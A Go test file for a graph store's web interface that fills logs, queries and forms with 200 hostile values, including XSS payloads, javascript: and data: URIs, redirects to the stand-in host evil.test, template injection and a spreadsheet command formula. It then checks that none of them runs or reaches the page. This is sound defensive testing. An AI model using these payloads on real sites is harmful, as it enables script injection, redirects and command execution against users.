package ui

import (
	"encoding/xml"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/segraph/segraph/internal/suite"
	"github.com/segraph/segraph/store/rdf"
	"github.com/segraph/segraph/store/turtle"
)

// hostile returns 200 values that would run a script, or change the page around them, on
// a careless page. Their scripts would set window.hostile.
func hostile() []string {
	var out []string
	for _, around := range []string{"%s", `">%s`, `'>%s`, "</textarea>%s", "</title></script>%s", "--></style>%s", "\u2028%s\u2029", "\u202e\u2066%s", "&quot;&gt;%s", "\x00\x1b[31m%s"} {
		for _, payload := range []string{
			"<script>window.hostile=1</script>", "<img src=x onerror=window.hostile=1>", "<svg onload=window.hostile=1>", "<svg><script>window.hostile=1</script></svg>",
			"<iframe srcdoc='<script>parent.hostile=1</script>'></iframe>", "<body onload=window.hostile=1>", "<details open ontoggle=window.hostile=1>",
			"<a href=javascript:window.hostile=1 autofocus onfocus=window.hostile=1>x</a>", "javascript:window.hostile=1", "data:text/html,<script>parent.hostile=1</script>",
			" onmouseover=window.hostile=1 x=", "<style>body{display:none}</style>", "<base href=//evil.test/>", "<meta http-equiv=refresh content=0;url=//evil.test/>",
			"<link rel=stylesheet href=//evil.test/x.css>", "<form action=//evil.test/><button>", "<div hx-get=//evil.test/ hx-trigger=load>", "<div hx-on::load=window.hostile=1>",
			"{{constructor.constructor('window.hostile=1')()}}", "=cmd|' /C calc'!A0",
		} {
			out = append(out, fmt.Sprintf(around, payload))
		}
	}
	return out
}

// hostileGraph returns a log in Turtle in which every term is hostile: labels, texts,
// names, language tags, IRIs that would run a script, and a literal of 1 MB.
func hostileGraph(t *testing.T) string {
	t.Helper()
	var b strings.Builder
	w := turtle.NewWriter(&b, turtle.NTriples, nil)
	const segb, prov, schema, rdfs = "http://www.gsi.upm.es/ontologies/segb/ns#", "http://www.w3.org/ns/prov#", "http://schema.org/", "http://www.w3.org/2000/01/rdf-schema#"
	add := func(s, p string, o rdf.Term) {
		if err := w.Write(rdf.Quad{S: rdf.NewIRI(s), P: rdf.NewIRI(p), O: o}); err != nil {
			t.Fatal(err)
		}
	}
	for i, v := range hostile() {
		robot := fmt.Sprintf("http://e/robot%d", i%7)
		activity := fmt.Sprintf("javascript:window.hostile=%d", i)
		if i%2 == 1 {
			activity = "data:text/html," + url.PathEscape(v)
		}
		text := rdf.NewString(v)
		add(robot, rdf.RDFType, rdf.NewIRI("http://kb.openrobots.org#Robot"))
		add(robot, schema+"name", text)
		add(activity, rdf.RDFType, rdf.NewIRI(segb+"LoggedActivity"))
		add(activity, segb+"wasPerformedBy", rdf.NewIRI(robot))
		add(activity, rdfs+"label", text)
		add(activity, prov+"startedAtTime", rdf.NewLiteral(fmt.Sprintf("2026-02-24T12:%02d:%02dZ", i/60, i%60), rdf.XSDDateTime))
		message := fmt.Sprintf("http://e/message%d#</script>", i)
		message = strings.NewReplacer("<", "%3C", ">", "%3E").Replace(message)
		add(message, rdf.RDFType, rdf.NewIRI(schema+"Message"))
		add(message, schema+"text", text)
		add(message, schema+"sender", rdf.NewIRI(robot))
		add(message, prov+"wasGeneratedBy", rdf.NewIRI(activity))
	}
	add("http://e/long", rdfs+"label", rdf.NewString(strings.Repeat("<b>", 1<<20/3)))
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// harmless fails the test if a hostile value has run a script or become more than text.
func (b *tab) harmless(what string) {
	b.t.Helper()
	if value[bool](b, `"hostile" in window`) {
		b.t.Errorf("%s: a script ran", what)
	}
	// The editor sets its own styles by script, and the field of a log those of its tinted lines.
	if n := value[int](b, `document.querySelectorAll("[onerror],[onload],[ontoggle],[onfocus],[onmouseover],[style]:not(.cm-editor *, #ttl),iframe,base,main style,main script,[href^='javascript:' i],[href^='data:' i]:not(link),[href^='//'],[src^='//'],[action^='//']").length`); n > 0 {
		b.t.Errorf("%s: %d of their elements are in the page", what, n)
	}
}

func TestNoHostileValueRuns(t *testing.T) {
	t.Parallel()
	s := openService(t)
	values := hostile()
	if slices.Sort(values); len(slices.Compact(values)) != 200 {
		t.Fatalf("there are %d values", len(values))
	}
	s.publish(hostileGraph(t))
	for _, v := range hostile() {
		s.log.Logger("segraph.test").Warn(v, "value", v, "request_id", v)
	}
	b := open(t, s.ui, look{})
	check := b.harmless
	b.goTo("/session")
	for _, path := range value[[]string](b, `[...document.querySelectorAll("nav a")].map(a => a.getAttribute("href"))`) {
		b.goTo(path)
		check(path)
	}
	all := strings.Join(hostile(), "\n")
	for _, path := range []string{
		"/session?next=" + url.QueryEscape("/"+all[:4000]), "/session?next=javascript:window.hostile=1",
		"/system/logs?contains=" + url.QueryEscape(all[:400]), "/system/logs?limit=500&level=WARNING", "/system/logs?request=" + url.QueryEscape(hostile()[41]),
	} {
		b.goTo(path)
		check(path)
	}
	value[any](b, `document.querySelectorAll("details").forEach(d => d.open = true)`)
	check("the log, unfolded")

	b.expect("status of 422") // a user with control characters
	b.expect("status of 404")
	b.goTo("/logs/insert")
	b.fill("#ttl", strings.ReplaceAll(all, "\x00", ""))
	b.fill("#user", hostile()[21])
	b.click("button[value=check]")
	b.see("#result", "error")
	check("the findings")
	b.click("button[value=tidy]")
	b.see("#result", "error")
	check("the field")
	b.goTo("/" + url.PathEscape(hostile()[0]))
	b.see("main", "Not found")
	check("an unknown address")
}

// Hostile values are viewed on every kind of page: rows, reports, nodes, their pictures,
// plans, logs and cases.
func TestNoHostileValueRunsWhereItIsLookedAt(t *testing.T) {
	suite.Slow(t, "it opens many pages with hostile values")
	t.Parallel()
	s := openService(t)
	s.publish("@prefix x: <javascript:window.hostile=1> . @prefix y: <data:text/html,> .\n" + hostileGraph(t))
	user := "<script>window.hostile=1</script>'\"><img src=x onerror=window.hostile=1>"
	request, err := http.NewRequest(http.MethodPost, s.api+"/ttl?user="+url.QueryEscape(user), strings.NewReader("<javascript:window.hostile=1> <data:text/html,x> <javascript:window.hostile=2> ."))
	if err != nil {
		t.Fatal(err)
	}
	request.Header.Set("Content-Type", "text/turtle")
	s.read(request)
	for i, v := range hostile()[:20] {
		v = strings.ReplaceAll(v, "\x00", "")
		at := fmt.Sprintf("2026-02-11T09:%02d:00.", i)
		s.observe(map[string]string{"event_kind": "human_utterance", "observed_at": at + "000Z", "modality": "speech", "text": v + " tell me about the weather",
			"robot_uri": "javascript:window.hostile=1", "subject_uri": "data:text/html,x"})
		s.observe(map[string]string{"event_kind": "human_utterance", "observed_at": at + "340Z", "modality": "speech", "text": v + " tell me about the weather", "robot_uri": "https://ex/robot/tiago"})
	}
	ask := func(query string, more ...string) string {
		values := url.Values{"query": {query}}
		for i := 0; i < len(more); i += 2 {
			values.Set(more[i], more[i+1])
		}
		return "/query?" + values.Encode()
	}
	quoted := `"""` + strings.NewReplacer(`\`, `\\`, `"`, `\"`, "\x00", "").Replace(hostile()[20]) + `"""`
	node := func(iri string) string { return graphPath("v", "+ "+iri, "node", iri) }
	const rows = "SELECT ?text ?m ?a { ?m <http://schema.org/text> ?text ; <http://www.w3.org/ns/prov#wasGeneratedBy> ?a } ORDER BY ?m"
	pages := map[string]string{ // expected text, which identifies the page
		ask(rows): "200 rows",
		ask("SELECT * { ?s ?p ?o FILTER(STRLEN(STR(?o)) > 1000000) }"): "1 row",
		ask("DESCRIBE <javascript:window.hostile=0>"):                  "triples", ask("CONSTRUCT WHERE { ?s <http://schema.org/name> ?o }"): "triples",
		ask("SELECT * { ?s ?p " + quoted + " }"): "row", ask("SELECT * { ?s <http://schema.org/nmae> " + quoted + " }"): "Why is it empty?",
		ask("SELECT * { ?s ?p "+quoted+" }", "view", "plan"): "The query ran for this plan", ask("SELECT * { " + hostile()[3]): "line 1",
		node("http://e/robot1"): "robot1", node("javascript:window.hostile=0"): "done by", node("javascript:window.hostile=1"): "html,x", node("http://e/long"): "label",
		graphPath("v", "+ http://e/robot1", "v", "< 25 "+performed+" http://e/robot1", "node", "http://e/robot1"): "robot1",
		graphPath("q", "<script>"): "found", "/shared-context": "weather", "/shared-context?view=quality": "",
		"/reports?section=conversations": "", "/reports?section=people": "", "/reports?section=activity": "",
	}
	for from := 100; from < 200; from += 100 {
		pages[ask(rows, "from", strconv.Itoa(from))] = fmt.Sprintf("%d–%d of 200", from+1, min(from+100, 200))
	}
	b := open(t, s.ui, look{})
	b.expect("status of 400")
	for path, has := range pages {
		b.goTo(path)
		if text := b.see("main", ""); !strings.Contains(text, has) {
			t.Errorf("%s has no %q: %.300q", path, has, text)
		}
		value[any](b, `document.querySelectorAll("details").forEach(d => d.open = true)`)
		b.harmless(path)
	}
	b.goTo(node("http://e/robot1"))
	for _, picture := range value[[]string](b, `[...document.querySelectorAll("a[href*='picture.svg']")].map(a => a.getAttribute("href"))`) {
		wellBehaved(t, s, picture)
	}
	b.goTo("/query/logs?triple=" + url.QueryEscape("<javascript:window.hostile=1> <data:text/html,x> <javascript:window.hostile=2>"))
	b.see("main", "<script>window.hostile=1</script>")
	b.harmless("the logs of a triple")
}

// wellBehaved requests a picture and checks that no script can run in it.
func wellBehaved(t *testing.T, s *service, path string) {
	t.Helper()
	request, err := http.NewRequest(http.MethodGet, s.ui+path, nil)
	if err != nil {
		t.Fatal(err)
	}
	in, nodes := xml.NewDecoder(strings.NewReader(s.read(request))), 0
	for {
		token, err := in.Token()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatalf("%s: %v", path, err)
		}
		element, ok := token.(xml.StartElement)
		if !ok {
			continue
		}
		nodes++
		if name := strings.ToLower(element.Name.Local); name == "script" || name == "foreignobject" || name == "iframe" {
			t.Errorf("%s has the element %s", path, name)
		}
		for _, a := range element.Attr {
			if name := strings.ToLower(a.Name.Local); strings.HasPrefix(name, "on") || name == "href" && !strings.HasPrefix(a.Value, "/") && !strings.HasPrefix(a.Value, "#") {
				t.Errorf("%s has %s=%q", path, a.Name.Local, a.Value)
			}
		}
	}
	if nodes < 10 {
		t.Errorf("%s has only %d elements", path, nodes)
	}
}
